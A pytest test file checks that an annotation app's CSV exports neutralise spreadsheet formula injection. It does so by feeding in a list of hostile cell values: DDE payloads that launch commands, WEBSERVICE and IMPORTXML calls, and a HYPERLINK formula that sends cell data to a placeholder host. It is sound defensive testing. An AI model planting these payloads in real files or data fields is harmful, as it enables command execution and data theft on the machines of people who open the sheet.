"""Cells that a spreadsheet would compute: none leaves as a formula."""

import csv
import io

import pytest

from annotation import export
from annotation.core.tables import csv_lines, inert
from annotation.models import Refusal
from tests.factories import a_face, a_person, a_photo, a_source, a_user
from tests.hostile.conftest import Tried

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1)", "=IMPORTXML(A1)"),
    *("=WEBSERVICE(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@=1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1;2", "=\"x\"&A1"),
    *("＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-", "+", "@", "=\n1", "==1", "=-1", "=@x", "-@x", "=<script>", "=RTD(1)"),
]  # fmt: skip
BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "  ",
    "\v",
    "\f",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u200e",
    "\u200f",
    "\0",
    "\t \u00a0",
]
COMPUTED = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
INVISIBLE = "".join(set("".join(BEFORE)))


def computes(cell: str) -> bool:
    """Whether a spreadsheet would: by what it sees first, and by tab or line end, which some split cells at."""
    return cell.lstrip(INVISIBLE).startswith(COMPUTED) or (cell[:1] in "\t\r\n" and bool(cell))


def test_no_cell_of_any_table_is_a_formula(tried: Tried):
    for before in BEFORE:
        for formula in FORMULAS:
            (cell,) = next(csv.reader(io.StringIO(list(csv_lines(["x"], [[before + formula]]))[1], newline="")))
            tried(before + formula, through=computes(cell))
    assert inert(-3.5) == -3.5  # a number is one
    assert inert("Ada-Lovelace") == "Ada-Lovelace"


@pytest.mark.django_db
def test_no_cell_of_an_export_is_one(tried: Tried):
    some = FORMULAS[::2]
    for n, formula in enumerate(some):
        source = a_source(
            f"{formula[:40].replace('/', '').replace(chr(10), '')} {n}", licence=formula, legal_basis=formula
        )
        face = a_face(a_photo(source, file=formula, source_url=formula))
        a_person([face], name=formula.replace("\n", ""), by=a_user(f"{formula[:20]}{n}"))
    rows = list(csv.reader(io.StringIO("".join(export.csv_lines()), newline="")))
    assert len(rows) == len(some) + 1
    for row in rows:
        for cell in row:
            if not cell.lstrip("-").replace(".", "").isdecimal():
                tried(cell, through=computes(cell))


@pytest.mark.django_db
def test_no_cell_of_the_refusals_is_one(client: object, tried: Tried):
    source = a_source()
    for formula in FORMULAS:
        Refusal.objects.create(source=source, file=formula, code="damaged", reason=formula)
    client.force_login(a_user())  # type: ignore[attr-defined]
    response = client.get(f"/sources/{source.pk}/refusals.csv")  # type: ignore[attr-defined]
    text = b"".join(response.streaming_content).decode()
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            tried(cell, through=computes(cell))
